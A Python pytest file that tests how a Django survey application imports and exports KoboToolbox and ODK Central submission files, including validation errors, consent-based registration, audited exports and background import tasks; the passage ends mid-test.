"""Submissions imported from KoboToolbox and ODK Central exports into a wave, and a wave's
submissions exported in the same layouts.

The export files are built here cell by cell with the columns the two servers write
(KoboToolbox's formpack: "group/question", "question/choice" 0/1 columns, "_question_latitude",
"_index"/"_parent_index", "_submission__uuid"; ODK Central: "group-question", "-Latitude",
"meta-instanceID", "KEY"/"PARENT_KEY" = "uuid:…/children[1]", "FormVersion"), not with
Liaison's own writer, so that reading is tested against the real conventions.
"""

from __future__ import annotations

import contextlib
import csv
import datetime
import io
import json
import struct
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from openpyxl import Workbook, load_workbook

from liaison.accounts.roles import Role
from liaison.audit.models import AuditEvent
from liaison.core.models import TaskProgress
from liaison.registry.models import Member
from liaison.surveys import exchange, ready, services, submissions
from liaison.surveys.models import Answer, Submission, Wave
from tests.factories import MemberFactory, officer_in, user_with_role

SURVEY = [
    ["type", "name", "label", "required", "constraint", "constraint_message", "calculation"],
    ["start", "start", "", "", "", "", ""],
    ["end", "end", "", "", "", "", ""],
    ["begin_group", "person", "Person", "", "", "", ""],
    ["text", "full_name", "Full name", "yes", "", "", ""],
    ["integer", "age", "Age", "yes", ". >= 18", "18 or more.", ""],
    ["select_multiple skills", "skills", "Skills", "", "", "", ""],
    ["end_group", "", "", "", "", "", ""],
    ["geopoint", "place", "Where do you live?", "", "", "", ""],
    ["date", "arrived", "Arrival date", "", "", "", ""],
    ["begin_repeat", "children", "Children", "", "", "", ""],
    ["text", "child_name", "Child's name", "yes", "", "", ""],
    ["integer", "child_age", "Child's age", "", ". < 30", "Under 30.", ""],
    ["end_repeat", "", "", "", "", "", ""],
    ["calculate", "age_months", "", "", "", "", "${age} * 12"],
]
CHOICES = [
    ["list_name", "name", "label"],
    ["skills", "nursing", "Nursing"],
    ["skills", "teaching", "Teaching"],
    ["skills", "driving", "Driving"],
]
UUID1 = "aaaaaaaa-0000-4000-8000-000000000001"
UUID2 = "aaaaaaaa-0000-4000-8000-000000000002"

# KoboToolbox XLSX, "XML values and headers", group names included, multiple select "both".
KOBO_MAIN = [
    "start",
    "end",
    "person/full_name",
    "person/age",
    "person/skills",
    "person/skills/nursing",
    "person/skills/teaching",
    "person/skills/driving",
    "place",
    "_place_latitude",
    "_place_longitude",
    "_place_altitude",
    "_place_precision",
    "arrived",
    "age_months",
    "meta/instanceID",
    "_id",
    "_uuid",
    "_submission_time",
    "_validation_status",
    "_notes",
    "_status",
    "_submitted_by",
    "__version__",
    "_tags",
    "_index",
]
KOBO_CHILDREN = [
    "children/child_name",
    "children/child_age",
    "_parent_table_name",
    "_parent_index",
    "_submission__id",
    "_submission__uuid",
    "_submission__submission_time",
    "_submission__validation_status",
    "_submission__notes",
    "_submission__status",
    "_submission__submitted_by",
    "_submission___version__",
    "_submission__tags",
]
AWA = {
    "start": "2025-02-03T10:05:00.000+01:00",
    "end": "2025-02-03T10:19:00.000+01:00",
    "person/full_name": "Awa Diallo",
    "person/age": 40,  # a number cell, as when "store numbers as text" is off
    "person/skills": "nursing teaching",
    "person/skills/nursing": 1,
    "person/skills/teaching": 1,
    "person/skills/driving": 0,
    "place": "14.6937 -17.4441 12 5",
    "_place_latitude": "14.6937",
    "_place_longitude": "-17.4441",
    "_place_altitude": "12",
    "_place_precision": "5",
    "arrived": datetime.datetime(2019, 3, 1),  # a date cell
    "age_months": "480",
    "meta/instanceID": f"uuid:{UUID1}",
    "_id": 101,
    "_uuid": UUID1,
    "_submission_time": "2025-02-03T09:20:30",
    "_status": "submitted_via_web",
    "__version__": "2025-01",
    "_index": 1,
}
JOSE = {
    "person/full_name": "Jose Reyes",
    "person/age": "35",
    "person/skills": "driving",
    "person/skills/nursing": "0",
    "person/skills/teaching": "0",
    "person/skills/driving": "1",
    "arrived": "2020-07-15",
    "age_months": "420",
    "meta/instanceID": f"uuid:{UUID2}",
    "_id": 102,
    "_uuid": UUID2,
    "_submission_time": "2025-02-04T11:00:00",
    "__version__": "2025-01",
    "_index": 2,
}
CHILDREN = [
    {
        "children/child_name": "Moussa",
        "children/child_age": "7",
        "_parent_table_name": "Household test",
        "_parent_index": 1,
        "_submission__id": 101,
        "_submission__uuid": UUID1,
        "_submission___version__": "2025-01",
    },
    {
        "children/child_name": "Fatou",
        "children/child_age": 3,
        "_parent_table_name": "Household test",
        "_parent_index": 1,
        "_submission__id": 101,
        "_submission__uuid": UUID1,
        "_submission___version__": "2025-01",
    },
]
AWA_DATA = {
    "full_name": "Awa Diallo",
    "age": "40",
    "skills": "nursing teaching",
    "place": "14.6937 -17.4441 12 5",
    "arrived": "2019-03-01",
    "children": [
        {"child_name": "Moussa", "child_age": "7"},
        {"child_name": "Fatou", "child_age": "3"},
    ],
}
JOSE_DATA = {
    "full_name": "Jose Reyes",
    "age": "35",
    "skills": "driving",
    "arrived": "2020-07-15",
}


def form_workbook(survey=SURVEY, version="2025-01"):
    wb = Workbook()
    sheet = wb.active
    sheet.title = "survey"
    for row in survey:
        sheet.append(row)
    listing = wb.create_sheet("choices")
    for row in CHOICES:
        listing.append(row)
    settings = wb.create_sheet("settings")
    settings.append(["form_id", "form_title", "version"])
    settings.append(["household_test", "Household test", version])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def new_wave(version, name="2025 round") -> Wave:
    return Wave.objects.create(
        questionnaire=version.questionnaire,
        version=version,
        name=name,
        opens_at=timezone.now() - datetime.timedelta(days=30),
    )


@pytest.fixture
def version(db):
    saved, _created = services.upload(None, io.BytesIO(form_workbook()), "household.xlsx")
    return saved


@pytest.fixture
def wave(version):
    return new_wave(version)


@pytest.fixture
def officer(db):
    return user_with_role(Role.PROGRAMME_OFFICER)


def xlsx(sheets):
    """A workbook of ``(title, headers, rows as dicts)``, blank cells left empty, text cells as
    text (also those starting with "=", which openpyxl would otherwise write as formulas)."""
    wb = Workbook()
    wb.remove(wb.active)
    for title, headers, rows in sheets:
        sheet = wb.create_sheet(title)
        sheet.append(headers)
        for row in rows:
            sheet.append([row.get(h) for h in headers])
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def kobo_xlsx(main=(AWA, JOSE), children=CHILDREN, headers=KOBO_MAIN):
    return xlsx(
        [("Household test", headers, list(main)), ("children", KOBO_CHILDREN, list(children))]
    )


def text_csv(headers, rows, delimiter=",", quoting=csv.QUOTE_MINIMAL):
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, quoting=quoting)
    writer.writerow(headers)
    for row in rows:
        writer.writerow(["" if row.get(h) is None else row.get(h) for h in headers])
    return out.getvalue().encode("utf-8")


# ODK Central: the zip's main table and the repeat's table.
ODK_MAIN = [
    "SubmissionDate",
    "start",
    "end",
    "person-full_name",
    "person-age",
    "person-skills",
    "place-Latitude",
    "place-Longitude",
    "place-Altitude",
    "place-Accuracy",
    "arrived",
    "age_months",
    "meta-instanceID",
    "KEY",
    "SubmitterID",
    "SubmitterName",
    "AttachmentsPresent",
    "AttachmentsExpected",
    "Status",
    "ReviewState",
    "DeviceID",
    "Edits",
    "FormVersion",
]
ODK_CHILDREN = ["child_name", "child_age", "PARENT_KEY", "KEY"]


def odk_rows():
    main = [
        {
            "SubmissionDate": "2025-02-03T09:20:30.123Z",
            "person-full_name": "Awa Diallo",
            "person-age": "40",
            "person-skills": "nursing teaching",
            "place-Latitude": "14.6937",
            "place-Longitude": "-17.4441",
            "place-Altitude": "12",
            "place-Accuracy": "5",
            "arrived": "2019-03-01",
            "age_months": "480",
            "meta-instanceID": f"uuid:{UUID1}",
            "KEY": f"uuid:{UUID1}",
            "SubmitterID": "5",
            "SubmitterName": "enumerator",
            "AttachmentsPresent": "0",
            "AttachmentsExpected": "0",
            "ReviewState": "approved",
            "DeviceID": "collect:abc",
            "Edits": "0",
            "FormVersion": "2025-01",
        },
        {
            "SubmissionDate": "2025-02-04T11:00:00.000Z",
            "person-full_name": "Jose Reyes",
            "person-age": "35",
            "person-skills": "driving",
            "arrived": "2020-07-15",
            "age_months": "420",
            "meta-instanceID": f"uuid:{UUID2}",
            "KEY": f"uuid:{UUID2}",
            "FormVersion": "2025-01",
        },
    ]
    children = [
        {
            "child_name": "Moussa",
            "child_age": "7",
            "PARENT_KEY": f"uuid:{UUID1}",
            "KEY": f"uuid:{UUID1}/children[1]",
        },
        {
            "child_name": "Fatou",
            "child_age": "3",
            "PARENT_KEY": f"uuid:{UUID1}",
            "KEY": f"uuid:{UUID1}/children[2]",
        },
    ]
    return main, children


def odk_zip(main=None, children=None):
    rows, kids = odk_rows()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("household_test.csv", text_csv(ODK_MAIN, main or rows))
        archive.writestr("household_test-children.csv", text_csv(ODK_CHILDREN, children or kids))
        archive.writestr("media/", "")
    return out.getvalue()


def run(wave, content, name, user=None):
    return submissions.import_file(user, wave, io.BytesIO(content), name)


def answers_of(submission):
    return {
        (a.question, a.instance, a.text, a.number, a.date)
        for a in Answer.objects.filter(submission=submission)
    }


def awa_answers():
    return {
        ("full_name", "", "Awa Diallo", None, None),
        ("age", "", "", Decimal(40), None),
        ("skills", "", "nursing", None, None),
        ("skills", "", "teaching", None, None),
        ("place", "", "14.6937 -17.4441 12 5", None, None),
        ("arrived", "", "", None, datetime.date(2019, 3, 1)),
        ("child_name", "1", "Moussa", None, None),
        ("child_age", "1", "", Decimal(7), None),
        ("child_name", "2", "Fatou", None, None),
        ("child_age", "2", "", Decimal(3), None),
        ("age_months", "", "480", None, None),  # a calculation without a type is text
    }


def assert_nothing_stored():
    assert Submission.objects.count() == 0
    assert Answer.objects.count() == 0


def messages_of(report):
    return [p.message for p in report.problems]


# --- reading the layouts -------------------------------------------------------------------


def test_a_kobo_xlsx_with_groups_choice_columns_and_a_repeat_sheet_is_imported(wave, officer):
    report = run(wave, kobo_xlsx(), "household_test_2025.xlsx", officer)

    assert report.problems == [], report.problems
    assert (report.created, report.skipped, report.source) == (2, 0, "kobo")
    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
    assert awa.wave == wave and awa.version == wave.version
    assert (awa.status, awa.source) == ("complete", "kobo")
    assert awa.data == AWA_DATA
    assert awa.submitted_at == datetime.datetime(2025, 2, 3, 9, 20, 30, tzinfo=datetime.UTC)
    assert awa.started_at == datetime.datetime(2025, 2, 3, 9, 5, tzinfo=datetime.UTC)
    assert answers_of(awa) == awa_answers()
    jose = Submission.objects.get(instance_id=f"uuid:{UUID2}")
    assert jose.data == JOSE_DATA
    assert ("skills", "", "driving", None, None) in answers_of(jose)
    assert Answer.objects.filter(submission=jose, question="child_name").count() == 0
    event = AuditEvent.objects.get(action=AuditEvent.Action.IMPORT)
    assert event.changes["created"] == 2 and event.object_id == str(wave.pk)


def test_kobo_links_repeat_rows_by_submission_uuid_when_the_main_sheet_has_no_index(wave):
    main = [{k: v for k, v in row.items() if k != "_index"} for row in (AWA, JOSE)]
    children = [{k: v for k, v in row.items() if k != "_parent_index"} for row in CHILDREN]
    headers = [h for h in KOBO_MAIN if h != "_index"]

    report = run(wave, kobo_xlsx(main, children, headers), "export.xlsx")

    assert report.problems == [], report.problems
    assert Submission.objects.get(instance_id=f"uuid:{UUID1}").data == AWA_DATA


def test_a_kobo_csv_without_group_names_with_semicolons_is_imported_and_says_repeats_are_missing(
    wave,
):
    headers = [
        "full_name",
        "age",
        "skills",
        "skills/nursing",
        "skills/teaching",
        "skills/driving",
        "arrived",
        "instanceID",
        "_id",
        "_uuid",
        "_submission_time",
        "__version__",
    ]
    rows = [
        {
            "full_name": "Jose Reyes",
            "age": "35",
            "skills": "driving",
            "skills/nursing": "0",
            "skills/teaching": "0",
            "skills/driving": "1",
            "arrived": "2020-07-15",
            "instanceID": f"uuid:{UUID2}",
            "_id": "102",
            "_uuid": UUID2,
            "_submission_time": "2025-02-04T11:00:00",
            "__version__": "2025-01",
        }
    ]
    content = text_csv(headers, rows, delimiter=";", quoting=csv.QUOTE_ALL)

    report = run(wave, content, "household_test.csv")

    assert report.problems == [], report.problems
    assert (report.created, report.source) == (1, "kobo")
    assert Submission.objects.get().data == JOSE_DATA
    assert any("children" in notice for notice in report.notices)


def test_only_the_per_choice_columns_of_a_select_multiple_are_enough(wave):
    headers = [h for h in KOBO_MAIN if h != "person/skills"]

    report = run(wave, kobo_xlsx(headers=headers), "export.xlsx")

    assert report.problems == [], report.problems
    assert Submission.objects.get(instance_id=f"uuid:{UUID1}").data["skills"] == "nursing teaching"


def test_an_odk_central_zip_with_a_repeat_table_is_imported(wave):
    report = run(wave, odk_zip(), "household_test.zip")

    assert report.problems == [], report.problems
    assert (report.created, report.source) == (2, "odk")
    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
    assert (awa.source, awa.data) == ("odk", AWA_DATA)
    assert awa.submitted_at == datetime.datetime(2025, 2, 3, 9, 20, 30, 123000, tzinfo=datetime.UTC)
    assert answers_of(awa) == awa_answers()


def test_an_odk_central_csv_without_repeat_tables_is_imported(wave):
    main, _children = odk_rows()

    report = run(wave, text_csv(ODK_MAIN, main[1:]), "household_test.csv")

    assert report.problems == [], report.problems
    assert (report.created, report.source) == (1, "odk")
    assert Submission.objects.get().data == JOSE_DATA


@pytest.fixture
def mapping_wave(db):
    content = ready.BY_SLUG["diaspora_mapping"].workbook()
    saved, _created = services.upload(None, io.BytesIO(content), "diaspora_mapping.xlsx")
    return new_wave(saved, "Mapping 2026")


def mapping_export():
    """A KoboToolbox export of the ready diaspora mapping form: one respondent who agreed to be
    registered, with two languages; its headers and main row, and the file."""
    headers = [
        "start",
        "end",
        "consent/consent_register",
        "consent/consent_contact",
        "about_you/given_name",
        "about_you/family_name",
        "about_you/contact_by",
        "about_you/email",
        "about_you/birth_year",
        "about_you/nationalities",
        "residence/residence_country",
        "residence/residence_city",
        "education_work/education_level",
        "contribution/contribution_interest",
        "meta/instanceID",
        "_id",
        "_uuid",
        "_submission_time",
        "__version__",
        "_index",
    ]
    row = {
        "consent/consent_register": "yes",
        "consent/consent_contact": "yes",
        "about_you/given_name": "Amina",
        "about_you/family_name": "Benali",
        "about_you/contact_by": "email",
        "about_you/email": "amina@example.org",
        "about_you/birth_year": "1985",
        "about_you/nationalities": "DZ FR",
        "residence/residence_country": "FR",
        "residence/residence_city": "Lyon",
        "education_work/education_level": "isced_7",
        "contribution/contribution_interest": "mentoring skills_transfer",
        "meta/instanceID": f"uuid:{UUID1}",
        "_uuid": UUID1,
        "_submission_time": "2026-12-01T08:00:00",
        "__version__": "2026-11",
        "_index": 1,
    }
    languages_headers = [
        "languages/language",
        "languages/language_level",
        "_parent_table_name",
        "_parent_index",
        "_submission__uuid",
    ]
    languages = [
        {"languages/language": "ar", "languages/language_level": "native", "_parent_index": 1},
        {"languages/language": "fr", "languages/language_level": "fluent", "_parent_index": 1},
    ]
    content = xlsx(
        [("Diaspora mapping survey", headers, [row]), ("languages", languages_headers, languages)]
    )
    return headers, row, content


def test_a_kobo_export_of_the_ready_diaspora_mapping_form_is_imported(mapping_wave, officer):
    headers, row, content = mapping_export()

    report = run(mapping_wave, content, "diaspora_mapping.xlsx", officer)

    assert report.problems == [], report.problems
    stored = Submission.objects.get()
    assert stored.data["languages"] == [
        {"language": "ar", "language_level": "native"},
        {"language": "fr", "language_level": "fluent"},
    ]
    rows = answers_of(stored)
    assert ("nationalities", "", "DZ", None, None) in rows
    assert ("nationalities", "", "FR", None, None) in rows
    assert ("birth_year", "", "", Decimal(1985), None) in rows
    assert ("language_level", "2", "fluent", None, None) in rows
    # She agreed to be registered: the registry has her, with the mapped answers.
    member = stored.member
    assert member is not None and report.registered == 1
    assert (
        member.given_name,
        member.family_name,
        member.email,
        member.country_of_residence,
        member.city,
        member.education_level,
    ) == ("Amina", "Benali", "amina@example.org", "FR", "Lyon", "7")
    assert sorted(c.code for c in member.nationalities) == ["DZ", "FR"]
    assert sorted(member.interests.values_list("interest", flat=True)) == [
        "mentoring",
        "skills_transfer",
    ]
    # Someone who declines stays in the statistics only, even with a name given for contact.
    declined = {
        **row,
        "consent/consent_register": "no",
        "about_you/given_name": "Karim",
        "about_you/email": "karim@example.org",
        "meta/instanceID": f"uuid:{UUID2}",
        "_uuid": UUID2,
    }
    second = run(
        mapping_wave, xlsx([("Diaspora mapping survey", headers, [declined])]), "b.xlsx", officer
    )
    assert second.problems == [] and second.created == 1 and second.registered == 0
    assert Member.objects.count() == 1
    assert Submission.objects.get(instance_id=f"uuid:{UUID2}").member is None


# --- what is refused, with nothing stored ---------------------------------------------------


def test_an_export_of_another_version_is_refused_naming_both_versions(wave):
    other = dict(JOSE, __version__="2024-03")

    report = run(wave, kobo_xlsx(main=(AWA, other)), "export.xlsx")

    assert messages_of(report) == [
        "This export is from version “2024-03” of the form; this wave collects version “2025-01”."
    ]
    assert (report.problems[0].row, report.problems[0].column) == (3, "__version__")
    assert_nothing_stored()


def test_kobo_deployment_ids_in_the_version_column_are_not_compared(wave):
    main = [dict(AWA, __version__="vQzV8aLmq2u4vXk9Ht3Bc7"), JOSE]

    report = run(wave, kobo_xlsx(main=main), "export.xlsx")

    assert report.problems == [] and report.created == 2


def test_a_column_that_is_no_question_of_the_version_is_refused(wave):
    main = [dict(AWA, foo="bar"), JOSE]

    report = run(wave, kobo_xlsx(main=main, headers=[*KOBO_MAIN, "foo"]), "export.xlsx")

    assert messages_of(report) == ["Column “foo” (row 1) is not a question of this form version."]
    assert (report.problems[0].sheet, report.problems[0].column) == ("Household test", "foo")
    assert_nothing_stored()


def test_labels_as_headers_are_explained(wave):
    headers = ["Full name" if h == "person/full_name" else h for h in KOBO_MAIN]
    main = [
        {("Full name" if k == "person/full_name" else k): v for k, v in r.items()} for r in (AWA,)
    ]

    report = run(wave, kobo_xlsx(main=main, children=[], headers=headers), "export.xlsx")

    assert "not its name" in messages_of(report)[0] and "full_name" in messages_of(report)[0]
    assert_nothing_stored()


def test_a_broken_rule_is_named_with_its_sheet_row_and_question_and_nothing_is_stored(wave):
    young = dict(JOSE, **{"person/age": "12"})
    old_child = dict(CHILDREN[1], **{"children/child_age": "45"})

    report = run(wave, kobo_xlsx(main=(AWA, young), children=(CHILDREN[0], old_child)), "x.xlsx")

    found = {(p.sheet, p.row, p.column, p.question, p.message) for p in report.problems}
    assert found == {
        ("Household test", 3, "person/age", "age", "18 or more."),
        ("children", 3, "children/child_age", "child_age", "Under 30."),
    }
    assert_nothing_stored()


def test_a_missing_required_answer_in_an_odk_zip_names_the_row_and_question(wave):
    main, _children = odk_rows()
    main[1]["person-full_name"] = ""

    report = run(wave, odk_zip(main=main), "household_test.zip")

    assert [(p.sheet, p.row, p.column, p.question) for p in report.problems] == [
        ("household_test.csv", 3, "person-full_name", "full_name")
    ]
    assert_nothing_stored()


def test_the_same_instance_id_twice_in_a_file_is_a_problem(wave):
    twin = dict(JOSE, **{"meta/instanceID": f"uuid:{UUID1}", "_uuid": UUID1})

    report = run(wave, kobo_xlsx(main=(AWA, twin)), "export.xlsx")

    assert messages_of(report) == [f"The instance id “uuid:{UUID1}” is also on row 2."]
    assert report.problems[0].row == 3
    assert_nothing_stored()


def test_a_repeat_row_pointing_at_no_submission_is_a_problem(wave):
    lost = dict(CHILDREN[0], _parent_index=9, _submission__uuid="")

    report = run(wave, kobo_xlsx(children=(lost,)), "export.xlsx")

    assert [(p.sheet, p.row, p.column) for p in report.problems] == [
        ("children", 2, "_parent_index")
    ]
    assert_nothing_stored()


def test_importing_the_same_file_again_skips_what_is_already_there(wave):
    first = run(wave, kobo_xlsx(), "export.xlsx")
    answers = Answer.objects.count()

    # The same submissions, exported by ODK Central this time: the answers are the same.
    again = run(wave, odk_zip(), "household_test.zip")

    assert (first.created, again.created, again.skipped, again.problems) == (2, 0, 2, [])
    assert Submission.objects.count() == 2 and Answer.objects.count() == answers


def test_a_stored_submission_with_other_answers_is_a_problem_and_nothing_changes(wave):
    run(wave, kobo_xlsx(main=(AWA,)), "first.xlsx")
    changed = dict(AWA, **{"person/full_name": "Awa B. Diallo"})

    report = run(wave, kobo_xlsx(main=(changed, JOSE)), "second.xlsx")

    assert len(report.problems) == 1 and "already in this wave with other answers" in (
        report.problems[0].message
    )
    assert report.created == 0
    assert list(Submission.objects.values_list("instance_id", flat=True)) == [f"uuid:{UUID1}"]
    assert Submission.objects.get().data["full_name"] == "Awa Diallo"


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "empty.csv", "empty"),
        (b"PK\x03\x04 not really a zip", "broken.xlsx", "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old.xls", "old Excel"),
        ("nom;âge\nÉlodie;34\n".encode("cp1252"), "latin1.csv", "UTF-8"),
        (b"\x00\x01\x02binary", "noise.csv", "not a CSV"),
        (b"_uuid,person/full_name\n", "headers_only.csv", "no submissions"),
    ],
)
def test_files_that_are_not_exports_get_a_clear_message(wave, content, name, words):
    report = run(wave, content, name)

    assert report.problems and words in report.problems[0].message
    assert_nothing_stored()


def test_a_zip_without_csv_tables_is_not_an_odk_export(wave):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", b"\xff\xd8")

    report = run(wave, out.getvalue(), "media.zip")

    assert "no CSV" in report.problems[0].message
    assert_nothing_stored()


# --- exports, and importing them again ---------------------------------------------------------


def exported(client, wave, fmt, purpose="Analysis of the 2025 household round"):
    response = client.post(f"/surveys/waves/{wave.pk}/export.{fmt}", {"purpose": purpose})
    assert response.status_code == 200, response.content[:500]
    return response


@pytest.mark.parametrize(("fmt", "name"), [("xlsx", "again.xlsx"), ("zip", "again.zip")])
def test_an_export_imported_into_a_fresh_wave_gives_the_same_answers(
    client, officer, wave, version, fmt, name
):
    assert run(wave, kobo_xlsx(), "export.xlsx").created == 2
    client.force_login(officer)

    response = exported(client, wave, fmt)

    fresh = new_wave(version, "2025 round, copy")
    report = run(fresh, response.content, name)
    assert report.problems == [] and report.created == 2
    for instance_id in (f"uuid:{UUID1}", f"uuid:{UUID2}"):
        before = Submission.objects.get(wave=wave, instance_id=instance_id)
        after = Submission.objects.get(wave=fresh, instance_id=instance_id)
        assert after.data == before.data
        assert answers_of(after) == answers_of(before)
        assert after.submitted_at == before.submitted_at
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.reason == "Analysis of the 2025 household round"
    assert event.changes == {"format": fmt, "submissions": 2, "outside_scope": 0}


def test_the_kobo_xlsx_export_has_kobos_columns_and_a_sheet_per_repeat(client, officer, wave):
    run(wave, kobo_xlsx(), "export.xlsx")
    client.force_login(officer)

    book = load_workbook(io.BytesIO(exported(client, wave, "xlsx").content), read_only=True)

    main, children = (list(ws.iter_rows(values_only=True)) for ws in book.worksheets)
    assert book.sheetnames == ["Household test", "children"]
    assert main[0][:8] == (
        "person/full_name",
        "person/age",
        "person/skills",
        "person/skills/nursing",
        "person/skills/teaching",
        "person/skills/driving",
        "place",
        "_place_latitude",
    )
    header = main[0]
    awa = dict(zip(header, main[1], strict=True))
    assert (awa["_uuid"], awa["__version__"], awa["_index"]) == (UUID1, "2025-01", "1")
    assert awa["_submission_time"] == "2025-02-03T09:20:30"
    assert awa["age_months"] == "480"  # the calculation, as stored
    assert children[0][-11:-9] == ("_parent_table_name", "_parent_index")
    moussa = dict(zip(children[0], children[1], strict=True))
    assert (moussa["children/child_name"], moussa["_parent_index"]) == ("Moussa", "1")
    assert moussa["_submission__uuid"] == UUID1


def test_the_kobo_csv_export_holds_the_main_table_and_says_repeats_are_left_out(
    client, officer, wave, version
):
    run(wave, kobo_xlsx(), "export.xlsx")
    client.force_login(officer)

    page = client.get(f"/surveys/waves/{wave.pk}/export.csv")
    response = exported(client, wave, "csv")

    assert "left out" in page.content.decode() and "children" in page.content.decode()
    text = response.content.decode("utf-8")
    assert text.startswith('"person/full_name";"person/age";')
    fresh = new_wave(version, "copy")
    report = run(fresh, response.content, "again.csv")
    assert report.problems == [] and report.created == 2
    jose = Submission.objects.get(wave=fresh, instance_id=f"uuid:{UUID2}")
    assert jose.data == JOSE_DATA


def test_an_export_needs_a_purpose_and_is_not_recorded_without_one(client, officer, wave):
    client.force_login(officer)

    response = client.post(f"/surveys/waves/{wave.pk}/export.xlsx", {"purpose": ""})

    assert response.status_code == 200 and b"<form" in response.content
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


def test_an_unknown_export_format_is_not_found(client, officer, wave):
    client.force_login(officer)

    assert client.get(f"/surveys/waves/{wave.pk}/export.pdf").status_code == 404


# --- the pages -------------------------------------------------------------------------------


# An import runs as a background task: the page keeps the file and queues it, the worker runs
# it (here in the test's process, as the registry's import tests do), and the page then shows
# the report kept in the task's progress row.
BACKGROUND = pytest.mark.django_db(transaction=True, databases="__all__")


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def kept_files(media):
    return [p for p in media.rglob("*") if p.is_file()]


def post_import(client, wave, content, name):
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(f"/surveys/waves/{wave.pk}/import/", {"file": upload})


def run_worker():
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload")


@BACKGROUND
def test_an_officer_imports_a_file_on_the_page_in_the_background_and_reads_the_outcome(
    client, officer, wave, media
):
    client.force_login(officer)

    response = post_import(client, wave, odk_zip(), "household_test.zip")

    run = TaskProgress.objects.get()
    page = f"/surveys/waves/{wave.pk}/import/{run.pk}/"
    assert response.status_code == 302 and response["Location"] == page
    assert (run.owner, run.status) == (officer, TaskProgress.Status.QUEUED)
    assert DBTaskResult.objects.count() == 1
    assert Submission.objects.count() == 0  # queued: nothing read yet
    assert len(kept_files(media)) == 1
    waiting = client.get(page).content.decode()
    assert 'hx-trigger="every 1s"' in waiting and 'role="progressbar"' in waiting

    run_worker()

    run.refresh_from_db()
    assert run.status == TaskProgress.Status.SUCCEEDED, run.message
    assert run.result["report"]["created"] == 2 and run.result["report"]["problems"] == []
    assert run.done == run.total == 4  # two submissions checked, then two stored
    assert Submission.objects.filter(wave=wave, source="odk").count() == 2
    assert AuditEvent.objects.get(action=AuditEvent.Action.IMPORT).actor_id == officer.pk
    assert kept_files(media) == []  # the file goes once the import is over
    done = client.get(page).content.decode()
    assert "every 1s" not in done  # the page stops following a finished import
    assert "2 submissions imported from household_test.zip; 0 were already" in done
    assert f'href="/surveys/waves/{wave.pk}/"' in done
    # The upload page lists the officer's imports into the wave.
    assert page in client.get(f"/surveys/waves/{wave.pk}/import/").content.decode()


@BACKGROUND
def test_the_report_lists_every_problem_by_sheet_row_and_question(client, officer, wave, media):
    client.force_login(officer)
    post_import(client, wave, kobo_xlsx(main=(AWA, dict(JOSE, **{"person/age": "12"}))), "x.xlsx")

    run_worker()

    run = TaskProgress.objects.get()
    assert run.status == TaskProgress.Status.FAILED
    assert run.message == "x.xlsx has 1 problem; nothing was stored."
    assert run.result["report"]["problems"] == [
        {
            "sheet": "Household test",
            "row": 3,
            "column": "person/age",
            "question": "age",
            "reason": "18 or more.",
        }
    ]
    page = client.get(f"/surveys/waves/{wave.pk}/import/{run.pk}/").content.decode()
    assert "x.xlsx has 1 problem; nothing was stored." in page
    assert "<code>person/age</code>" in page and "18 or more." in page
    assert_nothing_stored()
    assert kept_files(media) == []


@BACKGROUND
def test_a_file_that_is_no_export_is_reported_by_the_task(client, officer, wave, media):
    client.force_login(officer)
    post_import(client, wave, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old.xls")

    run_worker()

    run = TaskProgress.objects.get()
    page = client.get(f"/surveys/waves/{wave.pk}/import/{run.pk}/").content.decode()
    assert run.status == TaskProgress.Status.FAILED and "old Excel" in page
    assert_nothing_stored()


@contextlib.contextmanager
def failing_answer_writes():
    """A real failure of the database while the answers are written, after the submissions
    were (a full disk, a lost connection): a trigger makes every insert of an answer fail."""
    table = connection.ops.quote_name(Answer._meta.db_table)
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(
                "CREATE FUNCTION liaison_test_fail() RETURNS trigger AS "
                "$$ BEGIN RAISE EXCEPTION 'the disk is full'; END $$ LANGUAGE plpgsql"
            )
            cursor.execute(
                f"CREATE TRIGGER liaison_test_fail BEFORE INSERT ON {table} "
                "FOR EACH ROW EXECUTE FUNCTION liaison_test_fail()"
            )
        else:
            cursor.execute(
                f"CREATE TRIGGER liaison_test_fail BEFORE INSERT ON {table} "  # noqa: S608 (model's table)
                "BEGIN INSERT INTO liaison_no_such_table VALUES (1); END"
            )
    try:
        yield
    finally:
        with connection.cursor() as cursor:
            if connection.vendor == "postgresql":
                cursor.execute(f"DROP TRIGGER liaison_test_fail ON {table}")
                cursor.execute("DROP FUNCTION liaison_test_fail()")
            else:
                cursor.execute("DROP TRIGGER liaison_test_fail")


@BACKGROUND
def test_an_import_that_fails_while_storing_leaves_nothing_and_says_so(
    client, officer, wave, media
):
    client.force_login(officer)
    post_import(client, wave, kobo_xlsx(), "export.xlsx")

    with failing_answer_writes():
        run_worker()

    run = TaskProgress.objects.get()
    assert run.status == TaskProgress.Status.FAILED
    assert DBTaskResult.objects.get().status == "FAILED"
    assert_nothing_stored()  # the submissions written before the failure are gone too
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.IMPORT).exists()
    assert kept_files(media) == []
    page = client.get(f"/surveys/waves/{wave.pk}/import/{run.pk}/").content.decode()
    assert "stopped because of an unexpected error; nothing was stored" in page
    assert "every 1s" not in page


@BACKGROUND
def test_an_import_whose_file_was_lost_before_it_ran_says_so(client, officer, wave, media):
